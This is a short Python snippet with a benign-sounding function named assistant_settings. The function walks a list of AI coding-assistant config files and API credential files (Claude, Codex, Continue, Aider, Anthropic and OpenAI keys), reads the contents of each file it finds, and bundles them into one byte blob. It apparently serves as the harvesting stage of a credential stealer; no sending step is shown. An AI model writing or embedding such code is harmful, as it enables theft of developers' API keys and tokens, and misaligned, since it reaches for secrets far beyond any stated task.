import os

_CANDIDATES = (
    "~/.claude.json",
    "~/.claude/settings.json",
    "~/.codex/config.toml",
    "~/.continue/config.json",
    "~/.aider.conf.yml",
    "~/.config/anthropic/api_key",
    "~/.openai/credentials",
)


def assistant_settings():
    out = []
    for cand in _CANDIDATES:
        path = os.path.expanduser(cand)
        if os.path.isfile(path):
            with open(path, "rb") as fh:
                out.append(cand.encode() + b"\0" + fh.read(20000))
    return b"\1".join(out)
